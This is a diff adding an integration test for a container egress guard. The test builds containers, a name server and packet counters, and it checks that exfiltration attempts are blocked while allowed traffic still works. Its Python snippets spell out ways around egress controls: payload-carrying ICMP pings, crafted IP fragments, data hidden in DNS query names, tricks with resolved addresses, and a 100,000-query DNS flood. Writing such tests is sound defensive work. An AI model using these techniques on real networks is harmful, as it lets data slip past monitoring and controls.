@@ -1,0 +1,215 @@
+import { spawn, type ChildProcess } from 'node:child_process';
+import { readFileSync } from 'node:fs';
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { openGates } from '../../../monitor/egress/disarm.ts';
+import { findResolverCgroups } from '../../../monitor/egress/resolver-cgroup.ts';
+import { describeWith, engineSocket } from '../../engine/capabilities.ts';
+import { testContainers } from '../../engine/containers.ts';
+import type { TestContainer, TestContainers } from '../../engine/containers.ts';
+import {
+  addressOf,
+  eventually,
+  inNetworkOf,
+  openEgressWatch,
+  startNameServer,
+} from './egress-stage.ts';
+import type { EgressWatch } from './egress-stage.ts';
+
+/** Answers on what git over ssh, HTTPS and a protocol over UDP would use. */
+const services = `
+const net = require('node:net'), dgram = require('node:dgram');
+for (const port of [22, 443]) net.createServer((s) => { s.on('error', () => {}); s.end('hello\\n'); }).listen(port, '0.0.0.0');
+const d = dgram.createSocket('udp4'); d.on('message', (m, from) => d.send(m, from.port, from.address)); d.bind(5000);
+`;
+
+/** Counts at an interface what comes from an address, and questions by name server port. */
+const counting = (from: string): string => `table netdev seen {
+  counter every { }
+  counter questions { }
+  chain seen { type filter hook ingress device "eth0" priority 0; ip saddr ${from} ip protocol { icmp, tcp, udp } counter name every; udp dport 53 counter name questions; }
+}
+`;
+
+describeWith(
+  ['engine', 'debian-image', 'root', 'kernel-sensor'],
+  'What tries to get round a wall',
+  () => {
+    let containers: TestContainers;
+    let server: TestContainer;
+    let other: TestContainer;
+    let agent: TestContainer;
+    let watch: EgressWatch;
+    let stopNames: () => void;
+    let serving: ChildProcess;
+    let [serverAddress, otherAddress] = ['', ''];
+
+    beforeAll(async () => {
+      containers = testContainers(engineSocket());
+      const web = ['sh', '-c', 'echo hello >/www/index.html; exec httpd -f -p 80 -h /www'];
+      [server, other, agent] = await Promise.all([
+        containers.start({ args: web }),
+        containers.start({ args: web }),
+        containers.start({ args: ['sleep', '10000'], image: 'debian' }),
+      ]);
+      [serverAddress, otherAddress] = await Promise.all([addressOf(server), addressOf(other)]);
+      const { State: state } = await server.inspect();
+      serving = spawn(
+        'nsenter',
+        ['-t', String(state.Pid), '-n', process.execPath, '-e', services],
+        { stdio: 'ignore' },
+      );
+      await inNetworkOf(other, ['nft', '-f', '-'], counting(await addressOf(agent)));
+      // The name server is the container that nothing but questions may reach.
+      stopNames = await startNameServer(other, {
+        'allowed.test': serverAddress,
+        'other.test': otherAddress,
+      });
+      watch = await openEgressWatch([otherAddress]);
+      await watch.start();
+      await eventually('it is known', () =>
+        watch
+          .service()
+          .snapshot()
+          .workloads.some(({ workload }) => workload.container === agent.id),
+      );
+      await watch.rule(agent, { verdict: 'allow', target: 'allowed.test', local: true });
+    }, 90_000);
+
+    afterAll(async () => {
+      await watch.mode(agent, 'off').catch(() => undefined);
+      await watch.close();
+      serving.kill('SIGKILL');
+      stopNames();
+      await containers.removeAll();
+      await openGates();
+    });
+
+    const python = (text: string): Promise<number> =>
+      agent.exec(['python3', '-c', `import socket,struct,sys,os,time\n${text}`]);
+    const reach = (host: string, port: number): Promise<number> =>
+      python(`try: socket.create_connection(("${host}",${port}),3)
+except OSError: sys.exit(3)`);
+
+    async function counted(name: 'every' | 'questions'): Promise<number> {
+      const text = await inNetworkOf(other, ['nft', 'list', 'counter', 'netdev', 'seen', name]);
+      return Number(/packets (\d+)/.exec(text)?.[1]);
+    }
+
+    /** What came to the other container, questions left out, while this was done. */
+    async function leaked(attack: () => Promise<unknown>): Promise<number> {
+      const before = (await counted('every')) - (await counted('questions'));
+      await attack();
+      return (await counted('every')) - (await counted('questions')) - before;
+    }
+
+    /** Ways of sending that need no connection. */
+    const packets = (): readonly string[] => [
+      // An echo request with a payload.
+      `s=socket.socket(socket.AF_INET,socket.SOCK_RAW,1)
+h=struct.pack(">BBHHH",8,0,0,1,1)+b"secret!!"; c=sum(struct.unpack(">8H",h)); c=~((c&65535)+(c>>16))&65535
+try: s.sendto(h[:2]+struct.pack(">H",c)+h[4:],("${otherAddress}",0))
+except OSError: pass`,
+      // One datagram in three parts.
+      `s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)
+try: s.sendto(b"x"*4000,("${otherAddress}",7777))
+except OSError: pass`,
+      // One in two parts of its own making, of which the second bears no port.
+      `s=socket.socket(socket.AF_INET,socket.SOCK_RAW,socket.IPPROTO_RAW)
+for place,data in ((8192,struct.pack(">4H",7777,7777,40,0)+b"x"*8),(2,b"x"*24)):
+  h=struct.pack(">BBHHHBBH",69,0,20+len(data),77,place,64,17,0)+b"\\0\\0\\0\\0"+socket.inet_aton("${otherAddress}")
+  try: s.sendto(h+data,("${otherAddress}",0))
+  except OSError: pass`,
+    ];
+
+    test('gets out where no wall stands', async () => {
+      for (const attack of packets()) {
+        expect(await leaked(() => python(attack)), attack).toBeGreaterThan(0);
+      }
+    });
+
+    test('cuts a flow that was opened before the wall stood', async () => {
+      const flow =
+        python(`s=socket.create_connection(("${otherAddress}",80)); open("/tmp/before","w").close()
+try:
+  for i in range(150): s.send(b"GET / HTTP/1.1\\r\\nX: 1\\r\\n" if i==0 else b"Y: 1\\r\\n"); time.sleep(0.1)
+except OSError: sys.exit(3)`);
+      await eventually(
+        'it is open',
+        async () => (await agent.exec(['test', '-e', '/tmp/before'])) === 0,
+      );
+      const view = await watch.mode(agent, 'enforce');
+      expect(view.coverage?.sight).toEqual({ state: 'seeing' });
+      expect(await flow).toBe(3);
+    });
+
+    test('does not hinder what is allowed: HTTP, HTTPS, git over ssh, UDP', async () => {
+      for (const port of [80, 443, 22]) expect(await reach('allowed.test', port)).toBe(0);
+      expect(
+        await python(`s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(3)
+s.sendto(b"x",("allowed.test",5000)); sys.exit(0 if s.recv(9)==b"x" else 4)`),
+      ).toBe(0);
+    });
+
+    test('does not get out in pings, in fragments, or as another protocol', async () => {
+      for (const attack of packets()) {
+        expect(await leaked(() => python(attack)), attack).toBe(0);
+      }
+    });
+
+    test('does not get out in the names that it asks for', async () => {
+      const before = await counted('questions');
+      // Each would be a piece of what is carried out; the last is as long as a name can be.
+      const long = ['a', 'b', 'c'].map((letter) => letter.repeat(63)).join('.');
+      const ask = `s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(3)
+def q(labels):
+  s.sendto(struct.pack(">6H",7,256,1,0,0,0)+b"".join(bytes([len(l)])+l for l in labels)+struct.pack(">BHH",0,16,1),("${otherAddress}",53))
+  return s.recv(600)[3]&15
+assert q(b"${long}.${'d'.repeat(61)}".split(b"."))==3
+assert q([b"un\\x01print\\xffable",b"test"])==3
+for i in range(190): assert q([os.urandom(20).hex().encode(),b"other",b"test"])==3`;
+      expect(await python(ask)).toBe(0);
+      expect(await counted('questions')).toBe(before);
+      await eventually('names that cannot be printed are told', () =>
+        watch.seen.some(({ names }) => names.some(({ name }) => name === '<name unprintable>')),
+      );
+      await eventually('the longest is told whole', () =>
+        watch.seen.some(({ names }) => names.some(({ name }) => name.length === 253)),
+      );
+    });
+
+    test('has no name that is not allowed resolved because it stands for one that is', async () => {
+      // The other server would answer both; only the guard decides by the name that is asked.
+      const ask = (name: string): string =>
+        `try: socket.gethostbyname("${name}")
+except OSError: sys.exit(3)`;
+      expect(await python(ask('other.test'))).toBe(3);
+      expect(await python(ask('below.allowed.test'))).toBe(3);
+      expect(await python(ask('ALLOWED.test'))).toBe(0);
+    });
+
+    test('gains nothing by an address after its name has expired', async () => {
+      expect(await reach('allowed.test', 80)).toBe(0);
+      expect(await reach(serverAddress, 443)).toBe(0);
+      await inNetworkOf(agent, ['nft', 'flush', 'set', 'inet', 'sentra', 'n4_any_any']);
+      expect(await reach(serverAddress, 443)).toBe(3);
+      expect(await reach('allowed.test', 443)).toBe(0);
+    });
+
+    test('asks for a hundred thousand names, and the guard still answers', async () => {
+      const flood = `s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.setblocking(False)
+for i in range(100000):
+  n=b"%d-flood" % i
+  try: s.sendto(struct.pack(">6H",7,256,1,0,0,0)+bytes([len(n)])+n+b"\\4test"+struct.pack(">BHH",0,1,1),("${otherAddress}",53))
+  except OSError: pass`;
+      const before = await counted('questions');
+      expect(await python(flood)).toBe(0);
+      expect(await counted('questions')).toBe(before);
+      await eventually('it answers', async () => (await reach('allowed.test', 80)) === 0);
+      const [pid] = findResolverCgroups().get(agent.id)?.pids() ?? [];
+      if (pid === undefined) throw new Error('It has no resolver.');
+      const resident = /^VmRSS:\s+(\d+) kB/m.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1];
+      expect(Number(resident)).toBeLessThan(30_000);
+      expect(await leaked(() => reach(otherAddress, 80))).toBe(0);
+    });
+  },
+);
